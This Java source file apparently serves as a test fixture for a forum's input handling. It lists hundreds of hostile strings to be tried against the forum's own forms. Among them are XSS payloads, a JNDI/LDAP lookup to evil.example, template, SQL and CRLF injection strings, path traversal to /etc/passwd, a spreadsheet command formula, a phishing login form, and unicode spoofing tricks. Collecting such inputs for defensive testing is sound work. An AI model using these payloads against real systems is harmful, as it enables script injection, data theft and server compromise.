package org.hearth.text;

import java.util.stream.Stream;

/** Texts of our own that try to be more than text, or are merely odd. Each is tried by itself. */
public final class Attacks {

    private Attacks() {
    }

    /** One or two of each family, which go through the real forms and are looked at in a browser. */
    static Stream<String> families() {
        return Stream.of(
                // Elements, and ends of those that the forum's own pages have around the words.
                "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
                "' autofocus onfocus='alert(1)", "</bdi></h1></main><iframe srcdoc=\"<script>alert(1)</script>\">", "<details open ontoggle=alert(1)>",
                "<style>@import '//evil.example'</style>", "<form action=//evil.example><button>Sign in</button>", "<!--", "<plaintext>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                // Attributes and addresses of what is allowed.
                "<em onmouseover=alert(1) style=position:fixed>x</em>", "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"https://good.example@evil.example\">x</a>",
                "https://evil.example/\"onmouseover=alert(1)//", "<code><ul><li></code><script>alert(1)</script>",
                // What the server's own languages might take for theirs.
                "#{7*7} ${7*7} #{facesContext.externalContext}", "<h:outputText value=\"#{7*7}\" escape=\"false\"/>", "<ui:include src=\"/WEB-INF/web.xml\"/>",
                "<%= 7*7 %><jsp:include page=\"/\"/><c:out value=\"${7*7}\"/>", "${jndi:ldap://evil.example/x}", "{{7*7}} {0} it's {1,number} %s %n",
                "');PrimeFaces.cw('x','y',{});//", "\\u003cscript\\u003e \\x3cscript>", "]]></update></partial-response>",
                // Databases, headers, paths.
                "Robert'); drop table post; --", "\" or 1=1 union select * from member %_\\", "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
                "../../WEB-INF/web.xml%00;jsessionid=x?#/..", "%3Cscript%3E&#60;script&#62;&lt;script&gt;",
                // Quotes and mentions.
                "[quote=</cite></blockquote>]x[/quote][/quote][quote", "[quote=Olive;1]I never said that.[/quote]", "@olive @<script> @\u202Eevilo @@ @" + "a".repeat(80),
                // Characters.
                "nul \0 in words", "half a pair \uD83D and \uDE26\uD83D", "\u202Egnp.exe \u2066\u2067\u2068 \u2069\u2069 \u061C", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\uD83C\uDFFD\uFE0F \uD83C\uDDFA\uD83C\uDDE6",
                "H\u0335\u0321\u035A\u0334\u0321\u035B e" + "\u0300".repeat(60), "\u200B\u2060\u3164\u2800\u00AD", "\uFFFE\uFFFF", "\u0001\u000B\u0085\u2028\u2029 \u001B[31mred",
                "\u0645\u0631\u062D\u0628\u0627 https://example.org \u05E9\u05DC\u05D5\u05DD (x)", "ﷺ ﷽ ß İ ſ Å ＡＢＣ", "W" + "i".repeat(140) + "de", "_".repeat(3_000));
    }

    public static Stream<String> all() {
        return Stream.concat(families(), more()).distinct();
    }

    private static Stream<String> more() {
        return Stream.of(
                // Elements that run something, load something or take the page over.
                "<ScRiPt src=//evil.example></sCrIpT>", "<script", "</script><script>alert(1)</script>",
                "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/pixel.gif\">", "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"data:text/html,x\">",
                "<embed src=x>", "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<style>@import '//evil.example'",
                "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<form action=//evil.example><input name=password><button>Sign in</button></form>", "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>",
                "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<plaintext>",
                "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>", "<xmp><script>alert(1)</script>",
                "<isindex action=javascript:alert(1)>", "<x onclick=alert(1)>", "<dialog open>", "<slot name=a>", "<table><td>", "<frameset>",
                // Attributes of tags that are allowed.
                "<em onclick=alert(1)>x</em>", "<em style=\"position:fixed;inset:0\">x</em>", "<ul id=post-1><li>x</li></ul>",
                "<code class=host>x</code>", "<a href=\"https://good.example\" onmouseover=\"alert(1)\">x</a>",
                "<a href=\"https://good.example\" style=\"all:unset\">x</a>", "<a href=\"https://good.example\" target=_blank>x</a>",
                "<a href=\"https://good.example\"onclick=alert(1)>x</a>", "<a onclick=alert(1) href=\"https://good.example\">x</a>",
                "<a href=\"https://good.example\" href=\"javascript:alert(1)\">x</a>", "<em/onclick=alert(1)>x</em>", "<em\fonclick=alert(1)>x</em>",
                "<a/href=\"https://good.example\">x</a>", "<li value=9999>x</li>", "<ol start=-1 reversed><li>x</li></ol>",
                "<blockquote cite=\"javascript:alert(1)\">x</blockquote>", "<strong dir=rtl>x</strong>", "<em hidden>x</em>", "<em popover>x</em>",
                // Addresses that are none, or lead where they do not say.
                "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>", "<a href=\"&#x01;javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"vbscript:x\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"blob:https://x\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"//evil.example\">x</a>", "<a href=\"/\\evil.example\">x</a>", "<a href=\"https:/evil.example\">x</a>",
                "<a href=\"https://good.example@evil.example\">x</a>", "<a href=\"https://good.example\\@evil.example\">x</a>",
                "<a href=\"https://good.example%2F@evil.example\">x</a>", "<a href=\"https://forum.example//evil.example\">x</a>",
                "<a href=\"https://evil.example\">https://good.example</a>", "<a href=\"https://evil.example/?https://good.example\">good.example</a>",
                "<a href=\"https://evil.example\">\u202Eelpmaxe.doog//:sptth</a>", "https://good.example\u202E@evil.example",
                "https://evil.example/\"onmouseover=alert(1)//", "https://evil.example/'><script>alert(1)</script>",
                "https://evil.example/`onload=alert(1)`", "https://evil.example/&quot;onload=alert(1)", "https://evil.example/<script>",
                "https://evil.example/javascript:alert(1)", "javascript://evil.example/%0Aalert(1)", "http://javascript:alert(1)@evil.example",
                "https://\u0440\u0430\u0443\u0440\u0430\u04CF.example", "https://p\u0430ypal.example", "https://good.example\u2044evil.example",
                "https://good.example\uFF0Fevil.example", "https://good.example\u3002evil.example", "https://xn--.example", "https://evil.example:99999",
                "https://[::1]/", "http://127.0.0.1/", "http://0x7f000001/", "mailto:ada@example.org?cc=all@example.org&body=x",
                "\"<script>alert(1)</script>\"@evil.example", "ada@evil.example\"onclick=alert(1)",
                // Half, nested, mixed and interrupted tags.
                "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<em<script>alert(1)</script>>x</em>",
                "<a href=\"<script>alert(1)</script>\">x</a>", "<a href=\"https://good.example/<img src=x onerror=alert(1)>\">x</a>",
                "<em><script></em>alert(1)</script>", "<ul><script><li>x</li></ul>", "<a href=https://good.example <em>x</em>>y</a>",
                "<em <em>>x</em>", "<em\0>x</em>", "<\0script>alert(1)</script>", "<s\u0000cript>alert(1)</script>", "<em\u00A0>x</em>", "< em>x</ em>",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "\u2039script\u203Aalert(1)", "+ADw-script+AD4-alert(1)", "<!--><script>alert(1)</script>-->",
                "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
                "<a href=https://good.example><a href=https://evil.example>x</a></a>", "<em></em><em></em>", "</article></main></body></html>",
                "</p></div></article><article id=post-2>", "</bdi></span></a>", "<cite class=quoted>Olive</cite>", "<bdi>x", "<br><br/><hr>",
                "<code></em><script>alert(1)</script></code>", "<code><code>x</code></code>", "<ul><li><ul><li></ul><li></ul></li>", "<dd><dl><li><dt>x",
                // Entities that mean markup.
                "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;", "&#x3C;img src=x onerror=alert(1)&#x3E;",
                "&lt;em&gt;x&lt;/em&gt;", "&#91;quote]x&#91;/quote]", "&#0;&#x0;&#xD800;&#x110000;&#-1;&#;&;", "&nbsp&lt&gt;&am", "&NewLine;&Tab;&ZeroWidthSpace;",
                "&CounterClockwiseContourIntegral;&notit;&#8238;", "&colon;&sol;&lpar;&NoBreak;",
                // Quotes that pretend.
                "[quote=Olive;1]I never said that.[/quote]", "[quote=Olive\"onclick=alert(1)]x[/quote]", "[quote=<script>alert(1)</script>]x[/quote]",
                "[quote=</cite></blockquote>]x[/quote]", "[quote=&lt;img src=x onerror=alert(1)&gt;]x[/quote]", "[quote=\u202Eevil]x[/quote]",
                "[quote=a;-1]x[/quote]", "[quote=a;99999999999999999999999]x[/quote]", "[quote=;]x[/quote]", "[quote=a;1/../../admin]x[/quote]",
                "[quote][quote][/quote]", "[/quote][quote]", "[quote=[quote]]x[/quote][/quote]", "[quote=a]<ul>[/quote]</ul>", "<ul>[quote]<li></ul>x[/quote]",
                "[url=javascript:alert(1)]x[/url]", "[img]https://evil.example/x.png[/img]", "[QuOtE=\u0130]x[/QUOTE]",
                // What templates, scripts, spreadsheets and databases might take for theirs.
                "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${7*7}", "#{7*7}", "#{facesContext.externalContext}", "<%= 7*7 %>", "*{7*7}", "@{x}", "${jndi:ldap://evil.example/x}",
                "=cmd|' /C calc'!A0", "'; drop table posts; --", "\" or \"\"=\"", "\\u003cscript\\u003e", "\\x3cscript>", "%3Cscript%3E", "{\"__proto__\":1}", "../../etc/passwd", "%00", "%n%s%x", "{0}{1}", "it's {0}",
                // Characters.
                "\0", "a\0b", "\u0001\u0002\u001B[31mred", "\uFEFFx", "\uFFFE\uFFFF", "\uD83D", "\uDE26\uD83D", "\u202Egnp.exe", "\u202A\u202B\u202D\u202E\u2066\u2067\u2068",
                "\u2069\u2069\u2069\u202C\u202C", "\u2028\u2029\u0085", "a\r\nb\rc\nd", "\u200B\u200C\u200D\u2060\u00AD", "\uDB40\uDC41\uDB40\uDC42", "Z\u0335\u0321\u035Aa\u0334\u0321\u035Bl\u0334\u0321\u034Cg\u0337\u0322o", "\u0600\u0601\u06DD",
                "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\uD83C\uDFFD\uFE0F", "\uD83C\uDDFA\uD83C", "\u1160\u115F\u3164\uFFA0", "\uFDFD", "ﷺ ﷽ \u0645\u0631\u062D\u0628\u0627 https://example.org \u0634\u0643\u0631\u0627", "\u0915\u094D\u200D\u0937 \u0C1C\u0C4D\u0C1E\u200C\u0C3E",
                "\u00A0\u2003\u3000", "\u2800", "\t\t", "x\u0300".repeat(50), "ß İ ı ſ K Å", "<\u017Fcript>alert(1)</\u017Fcript>", "<\u212Abd>x", "ＡＢＣ", "¿¡«»„“‚‘", "@ada@evil.example", "@\u202Eada", "@", "@@ada", "#post-1");
    }
}
